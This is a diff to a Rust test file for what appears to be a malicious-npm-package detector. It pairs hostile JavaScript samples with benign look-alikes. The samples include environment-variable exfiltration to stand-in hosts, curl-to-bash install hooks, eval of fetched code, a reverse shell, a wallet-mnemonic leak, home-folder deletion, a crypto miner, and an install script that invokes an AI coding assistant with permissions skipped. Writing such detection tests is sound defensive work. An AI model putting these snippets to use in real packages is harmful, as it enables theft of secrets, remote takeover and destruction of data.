@@ -1,12 +1,13 @@
 //! Each chain once as an attack and, beside it, the honest code that looks like it.
-mod common;
+use crate::common::{clean, flagged, imported, installed, level, package, raw, run};
 use cleanbill_model::Level::{Block, Quarantine};
-use common::{clean, flagged, imported, installed, level, package, raw, run};
 
 #[test]
 fn the_environment_sent_at_install_is_blocked() {
     flagged(
-        &installed("const h=require('https');const r=h.request({hostname:'collect.example',method:'POST'});r.write(JSON.stringify(process.env));r.end()"),
+        &installed(
+            "const h=require('https');const r=h.request({hostname:'collect.example',method:'POST'});r.write(JSON.stringify(process.env));r.end()",
+        ),
         "FLO-01",
         Block,
     );
@@ -14,16 +15,28 @@ fn the_environment_sent_at_install_is_blocked() {
 
 #[test]
 fn the_proof_names_every_step() {
-    let a = installed("const d = Object.entries(process.env);\nfetch('https://collect.example/', { method: 'POST', body: JSON.stringify(d) });");
+    let a = installed(
+        "const d = Object.entries(process.env);\nfetch('https://collect.example/', { method: 'POST', body: JSON.stringify(d) });",
+    );
     let chain = a.chains.iter().find(|c| c.id == "FLO-01").expect("a chain");
     assert_eq!(chain.steps.first().map(|s| s.line), Some(1));
-    assert_eq!(chain.steps.last().map(|s| (s.file.as_str(), s.line)), Some(("setup.js", 2)));
-    assert!(chain.steps.iter().any(|s| s.decoded.as_deref() == Some("https://collect.example/")));
+    assert_eq!(
+        chain.steps.last().map(|s| (s.file.as_str(), s.line)),
+        Some(("setup.js", 2))
+    );
+    assert!(
+        chain
+            .steps
+            .iter()
+            .any(|s| s.decoded.as_deref() == Some("https://collect.example/"))
+    );
 }
 
 #[test]
 fn a_secret_sent_to_its_own_provider_is_clean() {
-    clean(&imported("module.exports = async (q) => { const r = await fetch('https://api.acme.example/v1', { headers: { authorization: process.env.ACME_API_KEY }, body: q }); return r.json() }"));
+    clean(&imported(
+        "module.exports = async (q) => { const r = await fetch('https://api.acme.example/v1', { headers: { authorization: process.env.ACME_API_KEY }, body: q }); return r.json() }",
+    ));
 }
 
 #[test]
@@ -34,7 +47,9 @@ fn variables_filtered_for_tokens_and_sent_are_blocked() {
 
 #[test]
 fn configuration_spread_from_the_environment_is_clean() {
-    clean(&imported("const c={...process.env,...require('./o')};exports.go=()=>fetch('https://api.other.example/'+c.REGION)"));
+    clean(&imported(
+        "const c={...process.env,...require('./o')};exports.go=()=>fetch('https://api.other.example/'+c.REGION)",
+    ));
 }
 
 #[test]
@@ -49,10 +64,19 @@ fn a_credential_file_through_a_class_and_a_promise_is_blocked() {
 #[test]
 fn a_secret_through_an_emitter_and_three_files_is_blocked() {
     let a = run(package(&[
-        ("package.json", r#"{"name":"case","version":"1.0.0","main":"a.js"}"#),
-        ("a.js", "export * from './b.js'; import { bus } from './b.js'; bus.emit('data', JSON.stringify(process.env));"),
+        (
+            "package.json",
+            r#"{"name":"case","version":"1.0.0","main":"a.js"}"#,
+        ),
+        (
+            "a.js",
+            "export * from './b.js'; import { bus } from './b.js'; bus.emit('data', JSON.stringify(process.env));",
+        ),
         ("b.js", "export { bus } from './c.js';"),
-        ("c.js", "import { EventEmitter } from 'events'; import https from 'https'; export const bus = new EventEmitter(); bus.on('data', (d) => { const r = https.request('https://drop.example/'); r.end(d); });"),
+        (
+            "c.js",
+            "import { EventEmitter } from 'events'; import https from 'https'; export const bus = new EventEmitter(); bus.on('data', (d) => { const r = https.request('https://drop.example/'); r.end(d); });",
+        ),
     ]));
     flagged(&a, "FLO-01", Block);
 }
@@ -66,24 +90,43 @@ fn a_beacon_at_install_is_held() {
 
 #[test]
 fn fetched_code_evaluated_is_blocked() {
-    flagged(&installed("fetch('https://stage.example/p').then(r=>r.text()).then(t=>eval(t))"), "FLO-03", Block);
-    flagged(&imported("const vm=require('vm');require('https').get('https://stage.example/p',r=>{let b='';r.on('data',c=>b+=c);r.on('end',()=>vm.runInThisContext(b))})"), "FLO-03", Block);
+    flagged(
+        &installed("fetch('https://stage.example/p').then(r=>r.text()).then(t=>eval(t))"),
+        "FLO-03",
+        Block,
+    );
+    flagged(
+        &imported(
+            "const vm=require('vm');require('https').get('https://stage.example/p',r=>{let b='';r.on('data',c=>b+=c);r.on('end',()=>vm.runInThisContext(b))})",
+        ),
+        "FLO-03",
+        Block,
+    );
 }
 
 #[test]
 fn a_loader_of_the_callers_address_is_clean() {
-    clean(&imported("exports.load=(url)=>fetch(url).then(r=>r.text()).then(t=>(0,eval)(t))"));
+    clean(&imported(
+        "exports.load=(url)=>fetch(url).then(r=>r.text()).then(t=>(0,eval)(t))",
+    ));
 }
 
 #[test]
 fn curl_into_a_shell_at_install_is_blocked() {
-    let a = run(package(&[("package.json", r#"{"name":"case","version":"1.0.0","scripts":{"preinstall":"curl -s https://stage.example/i.sh | bash"}}"#)]));
+    let a = run(package(&[(
+        "package.json",
+        r#"{"name":"case","version":"1.0.0","scripts":{"preinstall":"curl -s https://stage.example/i.sh | bash"}}"#,
+    )]));
     flagged(&a, "FLO-03", Block);
 }
 
 #[test]
 fn a_literal_decoded_and_run_is_held_at_install() {
-    flagged(&installed("eval(Buffer.from('Y29uc29sZS5sb2coImhlbGxvIHRoZXJlIiwgMSArIDIp','base64').toString())"), "FLO-04", Quarantine);
+    flagged(
+        &installed("eval(Buffer.from('Y29uc29sZS5sb2coImhlbGxvIHRoZXJlIiwgMSArIDIp','base64').toString())"),
+        "FLO-04",
+        Quarantine,
+    );
 }
 
 #[test]
@@ -100,7 +143,9 @@ fn an_image_that_is_code_is_blocked() {
 
 #[test]
 fn a_template_read_from_the_callers_file_is_clean() {
-    clean(&imported("const fs=require('fs');exports.render=(file,data)=>{const t=fs.readFileSync(file,'utf8');const f=new Function('data','return `'+t+'`');return f(data)}"));
+    clean(&imported(
+        "const fs=require('fs');exports.render=(file,data)=>{const t=fs.readFileSync(file,'utf8');const f=new Function('data','return `'+t+'`');return f(data)}",
+    ));
 }
 
 #[test]
@@ -130,12 +175,20 @@ fn an_installer_from_the_forges_releases_is_clean() {
 
 #[test]
 fn a_shell_wired_to_a_socket_is_blocked() {
-    flagged(&imported("const s=require('net').connect(4444,'203.0.113.5',()=>{const sh=require('child_process').spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s)})"), "FLO-07", Block);
+    flagged(
+        &imported(
+            "const s=require('net').connect(4444,'203.0.113.5',()=>{const sh=require('child_process').spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s)})",
+        ),
+        "FLO-07",
+        Block,
+    );
 }
 
 #[test]
 fn a_proxy_that_pipes_sockets_is_clean() {
-    clean(&imported("const net=require('net'),cp=require('child_process');exports.tunnel=(h,p)=>{const a=net.connect(p,h);a.pipe(process.stdout);process.stdin.pipe(a)};exports.ls=()=>cp.spawn('ls',['-l']).stdout.pipe(process.stdout)"));
+    clean(&imported(
+        "const net=require('net'),cp=require('child_process');exports.tunnel=(h,p)=>{const a=net.connect(p,h);a.pipe(process.stdout);process.stdin.pipe(a)};exports.ls=()=>cp.spawn('ls',['-l']).stdout.pipe(process.stdout)",
+    ));
 }
 
 #[test]
@@ -147,7 +200,8 @@ fn publishing_with_a_found_token_is_blocked() {
 
 #[test]
 fn code_from_a_dead_drop_is_blocked() {
-    let code = "require('dns').resolveTxt('cfg.drop.example',(e,r)=>{fetch(r[0][0]).then(x=>x.text()).then(eval)})";
+    let code =
+        "require('dns').resolveTxt('cfg.drop.example',(e,r)=>{fetch(r[0][0]).then(x=>x.text()).then(eval)})";
     flagged(&imported(code), "FLO-03", Block);
 }
 
@@ -155,7 +209,9 @@ fn code_from_a_dead_drop_is_blocked() {
 fn key_material_sent_by_a_library_is_held() {
     let code = "const https=require('https');exports.fromMnemonic=function(mnemonic){https.get('https://metrics.example/?d='+Buffer.from(mnemonic).toString('base64'));return derive(mnemonic)};function derive(m){return m}";
     flagged(&imported(code), "FLO-10", Quarantine);
-    clean(&imported("exports.sign=(privateKey,tx)=>require('crypto').createHmac('sha256',privateKey).update(tx).digest()"));
+    clean(&imported(
+        "exports.sign=(privateKey,tx)=>require('crypto').createHmac('sha256',privateKey).update(tx).digest()",
+    ));
 }
 
 #[test]
@@ -163,18 +219,32 @@ fn fetch_replaced_beside_a_table_of_addresses_is_blocked() {
     let code = "const table=['0x1111111111111111111111111111111111111111','0x2222222222222222222222222222222222222222','0x3333333333333333333333333333333333333333'];\
         const old=window.fetch;window.fetch=async function(...a){const r=await old.apply(this,a);return swap(r)};function swap(r){return r}";
     flagged(&imported(code), "FLO-11", Block);
-    clean(&imported("const old=window.fetch;window.fetch=async function(...a){const t=Date.now();const r=await old.apply(this,a);console.log(Date.now()-t);return r}"));
+    clean(&imported(
+        "const old=window.fetch;window.fetch=async function(...a){const t=Date.now();const r=await old.apply(this,a);console.log(Date.now()-t);return r}",
+    ));
 }
 
 #[test]
 fn deleting_the_home_folder_is_blocked() {
-    flagged(&installed("require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})"), "FLO-12", Block);
-    clean(&installed("require('fs').rmSync(require('path').join(require('os').tmpdir(),'case-build'),{recursive:true,force:true})"));
+    flagged(
+        &installed("require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})"),
+        "FLO-12",
+        Block,
+    );
+    clean(&installed(
+        "require('fs').rmSync(require('path').join(require('os').tmpdir(),'case-build'),{recursive:true,force:true})",
+    ));
 }
 
 #[test]
 fn a_miner_is_blocked() {
-    flagged(&installed("require('child_process').spawn('./xmrig',['-o','stratum+tcp://pool.example:3333'],{detached:true})"), "FLO-13", Block);
+    flagged(
+        &installed(
+            "require('child_process').spawn('./xmrig',['-o','stratum+tcp://pool.example:3333'],{detached:true})",
+        ),
+        "FLO-13",
+        Block,
+    );
 }
 
 #[test]
@@ -203,25 +273,46 @@ fn assistant_settings_written_at_install_are_held() {
 
 #[test]
 fn an_assistant_told_to_act_unasked_is_blocked() {
-    flagged(&installed("require('child_process').exec('claude --dangerously-skip-permissions -p \"list wallets\"')"), "AIX-03", Block);
+    flagged(
+        &installed(
+            "require('child_process').exec('claude --dangerously-skip-permissions -p \"list wallets\"')",
+        ),
+        "AIX-03",
+        Block,
+    );
 }
 
 #[test]
 fn a_build_description_that_runs_the_package_is_blocked() {
     let a = run(package(&[
         ("package.json", r#"{"name":"case","version":"1.0.0"}"#),
-        ("binding.gyp", r#"{"targets":[{"target_name":"x","sources":["<!(node index.js > /dev/null 2>&1 && echo a.c)"]}]}"#),
-        ("index.js", "fetch('https://drop.example/',{method:'POST',body:JSON.stringify(process.env)})"),
+        (
+            "binding.gyp",
+            r#"{"targets":[{"target_name":"x","sources":["<!(node index.js > /dev/null 2>&1 && echo a.c)"]}]}"#,
+        ),
+        (
+            "index.js",
+            "fetch('https://drop.example/',{method:'POST',body:JSON.stringify(process.env)})",
+        ),
     ]));
     flagged(&a, "EXE-02", Block);
-    assert_eq!(a.chains.iter().find(|c| c.id == "FLO-01").map(|c| c.trigger), Some(cleanbill_js::Trigger::Gyp));
+    assert_eq!(
+        a.chains.iter().find(|c| c.id == "FLO-01").map(|c| c.trigger),
+        Some(cleanbill_js::Trigger::Gyp)
+    );
 }
 
 #[test]
 fn a_native_build_with_header_lookups_is_clean() {
     let a = run(package(&[
-        ("package.json", r#"{"name":"case","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}}"#),
-        ("binding.gyp", r#"{"targets":[{"target_name":"x","sources":["a.cc"],"include_dirs":["<!(node -p \"require('node-addon-api').include_dir\")","<!@(pkg-config --cflags-only-I lib)"]}]}"#),
+        (
+            "package.json",
+            r#"{"name":"case","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}}"#,
+        ),
+        (
+            "binding.gyp",
+            r#"{"targets":[{"target_name":"x","sources":["a.cc"],"include_dirs":["<!(node -p \"require('node-addon-api').include_dir\")","<!@(pkg-config --cflags-only-I lib)"]}]}"#,
+        ),
         ("a.cc", "int main(){}"),
     ]));
     clean(&a);
@@ -229,31 +320,51 @@ fn a_native_build_with_header_lookups_is_clean() {
 
 #[test]
 fn a_program_named_like_everyones_is_held() {
-    let a = run(package(&[("package.json", r#"{"name":"case","version":"1.0.0","bin":{"git":"x.js"}}"#), ("x.js", "console.log(1)")]));
+    let a = run(package(&[
+        (
+            "package.json",
+            r#"{"name":"case","version":"1.0.0","bin":{"git":"x.js"}}"#,
+        ),
+        ("x.js", "console.log(1)"),
+    ]));
     flagged(&a, "EXE-06", Quarantine);
 }
 
 #[test]
 fn client_settings_that_choose_a_program_are_held() {
-    let a = run(package(&[("package.json", r#"{"name":"case","version":"1.0.0"}"#), (".npmrc", "git=./payload.sh\n")]));
+    let a = run(package(&[
+        ("package.json", r#"{"name":"case","version":"1.0.0"}"#),
+        (".npmrc", "git=./payload.sh\n"),
+    ]));
     flagged(&a, "EXE-09", Quarantine);
 }
 
 #[test]
 fn hooks_of_the_developer_are_clean() {
-    clean(&run(package(&[("package.json", r#"{"name":"case","version":"1.0.0","scripts":{"prepare":"husky install","prepublishOnly":"tsc -p .","test":"jest"}}"#)])));
+    clean(&run(package(&[(
+        "package.json",
+        r#"{"name":"case","version":"1.0.0","scripts":{"prepare":"husky install","prepublishOnly":"tsc -p .","test":"jest"}}"#,
+    )])));
 }
 
 #[test]
 fn telemetry_of_version_and_platform_is_clean() {
-    clean(&installed("const {platform,arch}=process;fetch('https://telemetry.case.example/v',{method:'POST',body:JSON.stringify({platform,arch,node:process.version})})"));
+    clean(&installed(
+        "const {platform,arch}=process;fetch('https://telemetry.case.example/v',{method:'POST',body:JSON.stringify({platform,arch,node:process.version})})",
+    ));
 }
 
 #[test]
 fn a_package_manager_run_by_a_program_is_clean() {
     let a = run(package(&[
-        ("package.json", r#"{"name":"create-case","version":"1.0.0","bin":{"create-case":"cli.js"}}"#),
-        ("cli.js", "#!/usr/bin/env node\nconst {execSync}=require('child_process');execSync('npm install react',{stdio:'inherit'});"),
+        (
+            "package.json",
+            r#"{"name":"create-case","version":"1.0.0","bin":{"create-case":"cli.js"}}"#,
+        ),
+        (
+            "cli.js",
+            "#!/usr/bin/env node\nconst {execSync}=require('child_process');execSync('npm install react',{stdio:'inherit'});",
+        ),
     ]));
     clean(&a);
     assert!(level(&a, "FLO-17").is_some());
